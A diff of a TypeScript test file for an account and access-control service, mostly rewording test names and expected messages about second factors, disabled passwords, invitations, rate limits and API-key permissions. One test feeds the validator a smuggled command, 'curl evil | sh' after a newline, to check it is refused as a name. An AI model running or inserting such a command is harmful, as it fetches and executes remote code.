@@ -17,8 +17,8 @@ import * as User from './people/user.ts'
 
 const provider = { issuer: 'https://idp.example', clientId: 'client', passwords: false }
 
-describe('an organization that demands a second factor', () => {
-  test('gives nothing but the way to one to who has none, also by an API key, and everything after', async () => {
+describe('an organization that requires a second factor', () => {
+  test('grants users and API keys no permissions until it is set up', async () => {
     const { found, as, anyone, now } = await timed()
     const ada = await found()
     const { key } = await ApiKey.create(ada.ctx, { name: 'k', permissions: ['read:users'] })
@@ -47,8 +47,8 @@ describe('an organization that demands a second factor', () => {
   }
 })
 
-describe('an organization that leaves signing in to its provider', () => {
-  test('takes passwords of admins alone, mails others none, and says no more than that it is wrong', async () => {
+describe('an organization with passwords disabled', () => {
+  test('accepts passwords of admins only, mails others none, and does not disclose the reason', async () => {
     const { found, join, anyone, deliver, runtime } = world()
     const ada = await found()
     const bob = await join(ada, 'viewer')
@@ -64,13 +64,13 @@ describe('an organization that leaves signing in to its provider', () => {
     await deliver()
     expect(runtime.mails.slice(before).map(({ to }) => to)).toEqual([ada.email])
     expect((await AuditLog.list(ada.ctx, { action: 'auth.login', result: 'denied' })).entries).toMatchObject([
-      { detail: 'passwords are off' },
+      { detail: 'passwords are disabled' },
     ])
   })
 })
 
 describe('a session that a password opened', () => {
-  test('ends at its next refresh where the organization leaves signing in to its provider; of admins it goes on', async () => {
+  test('ends at its next refresh once passwords are disabled, except for admins', async () => {
     const { found, join, anyone, as } = world()
     const ada = await found()
     const bob = await join(ada, 'viewer')
@@ -92,10 +92,10 @@ describe('a session that a password opened', () => {
     const details = (await AuditLog.list(ada.ctx, { action: 'auth.refresh' })).entries.flatMap(
       ({ detail }) => detail ?? [],
     )
-    expect(details).toEqual(Array.from({ length: 3 }, () => 'passwords are off: the session was ended'))
+    expect(details).toEqual(Array.from({ length: 3 }, () => 'passwords are disabled: the session was ended'))
   })
 
-  test('is apart from those of the provider and of the command line, which go on', async () => {
+  test('does not affect sessions of the provider or the command line', async () => {
     const { found, join, anyone } = world()
     const ada = await found()
     const bob = await join(ada, 'viewer')
@@ -108,8 +108,8 @@ describe('a session that a password opened', () => {
   })
 })
 
-describe('who has not confirmed their address', () => {
-  test('makes no keys, invites nobody and trusts no issuer', async () => {
+describe('a user with an unverified address', () => {
+  test('cannot create keys, invite users or configure issuers', async () => {
     const { found, as } = world()
     const ada = await found()
     await User.edit(ada.ctx, ada.userId, () => ({ emailVerified: false }))
@@ -122,11 +122,11 @@ describe('who has not confirmed their address', () => {
     for (const attempt of attempts)
       expect(await refusal(attempt)).toMatchObject({
         code: 'conflict',
-        message: expect.stringContaining('Confirm your own e-mail address'),
+        message: expect.stringContaining('Confirm your e-mail address'),
       })
   })
 
-  test('keeps nothing that they prepared when its owner resets the password', async () => {
+  test('loses keys and second factor when the owner of the address resets the password', async () => {
     const { found, as, anyone, deliver, mailedTo, now } = world()
     const ada = await found()
     const { key } = await ApiKey.create(ada.ctx, { name: 'k', permissions: ['read:costs'] })
@@ -146,7 +146,7 @@ describe('who has not confirmed their address', () => {
     expect((await me(await as(accessToken), {})).user).toMatchObject({ emailVerified: true, hasSecondFactor: false })
   })
 
-  test('keeps the address from whoever else registers it, however long they wait, and all that they have', async () => {
+  test('keeps address and data when another person registers the address', async () => {
     const { anyone, as, pass } = world()
     const email = 'founder@example.com'
     const first = await register(anyone(), { email, password, companyName: 'First', role: 'cfo' })
@@ -154,7 +154,7 @@ describe('who has not confirmed their address', () => {
     const again = register(anyone(), { email, password: 'another battery staple', companyName: 'Second', role: 'cfo' })
     expect(await refusal(again)).toMatchObject({
       code: 'conflict',
-      message: expect.stringContaining('reset its password'),
+      message: expect.stringContaining('reset the password'),
     })
     const { accessToken } = await Session.refresh(anyone(), { refreshToken: first.refreshToken })
     expect(await as(accessToken)).toMatchObject({
@@ -165,8 +165,8 @@ describe('who has not confirmed their address', () => {
   })
 })
 
-describe('nobody gives more than they have', () => {
-  test('an API key invites nobody to more than it may, nor makes anybody more', async () => {
+describe('no caller grants more than it has', () => {
+  test('an API key cannot assign a role beyond its permissions', async () => {
     const { found, join, as } = world()
     const ada = await found()
     const bob = await join(ada, 'viewer')
@@ -188,7 +188,7 @@ describe('nobody gives more than they have', () => {
     await expect(Members.reactivate(ctx, { id: bob.userId })).resolves.toMatchObject({ isActive: true })
   })
 
-  test('an invitation ends with who made it', async () => {
+  test('an invitation ends with its inviting user', async () => {
     const { found, join, anyone, deliver, mailedTo } = world()
     const ada = await found()
     const eve = await join(ada, 'admin')
@@ -199,7 +199,7 @@ describe('nobody gives more than they have', () => {
     expect(await refusal(Invitations.accept(anyone(), { token, password }))).toMatchObject({ code: 'invalid' })
   })
 
-  test('an invitation ends with the API key that made it', async () => {
+  test('an invitation ends with its inviting API key', async () => {
     const at = world()
     const ada = await at.found()
     const invited = async (email: string, expiresInDays = 90) => {
@@ -229,7 +229,7 @@ describe('nobody gives more than they have', () => {
   })
 })
 
-test('a mailbox gets five mails of a kind an hour, however many are asked for, and the warning that comes after them', async () => {
+test('a mailbox gets at most five mails of a kind per hour, and still the password warning', async () => {
   const { found, anyone, deliver, runtime } = world()
   const ada = await found()
   await deliver()
@@ -244,7 +244,7 @@ test('a mailbox gets five mails of a kind an hour, however many are asked for, a
   ])
 })
 
-test('codes of the second factor are counted wherever they come from', async () => {
+test('second-factor codes are counted across networks', async () => {
   const at = world()
   const ada = await at.found()
   const { uri } = await Totp.begin(ada.ctx, { password })
@@ -259,7 +259,7 @@ test('codes of the second factor are counted wherever they come from', async () 
   expect(await guess('192.0.2.99')).toMatchObject({ code: 'rate_limited' })
 })
 
-test('addresses of one network of IPv6 share their attempts', async () => {
+test('addresses of one IPv6 network share their attempts', async () => {
   const at = world()
   const ada = await at.found()
   const guess = async (address: string) =>
@@ -269,7 +269,7 @@ test('addresses of one network of IPv6 share their attempts', async () => {
   expect(await guess('2001:db8:0:1::1')).toMatchObject({ code: 'unauthenticated' })
 })
 
-test('an admin ends the sessions of another, who may sign in again', async () => {
+test("an admin revokes another user's sessions; that user may sign in again", async () => {
   const { found, join, as, anyone } = world()
   const ada = await found()
   const bob = await join(ada, 'viewer')
@@ -278,7 +278,7 @@ test('an admin ends the sessions of another, who may sign in again', async () =>
   await expect(Login.login(anyone(), { email: bob.email, password })).resolves.toBeDefined()
 })
 
-test.each(['X\ncurl evil | sh', 'a\u0007b', 'a\u2028b', ' '])('%j is no name of anything', async (name) => {
+test.each(['X\ncurl evil | sh', 'a\u0007b', 'a\u2028b', ' '])('%j is refused as a name', async (name) => {
   const { found } = world()
   const ada = await found()
   expect(await refusal(Organization.update(ada.ctx, { name }))).toMatchObject({ code: 'invalid' })
@@ -287,7 +287,7 @@ test.each(['X\ncurl evil | sh', 'a\u0007b', 'a\u2028b', ' '])('%j is no name of 
   })
 })
 
-test('who is alone in an organization may approve their own requests; of two nobody may', async () => {
+test('self-approval requires an organization with one user', async () => {
   const { found, join } = world()
   const ada = await found()
   const approvalRules = { approvals: 1, allowSelfApproval: true }
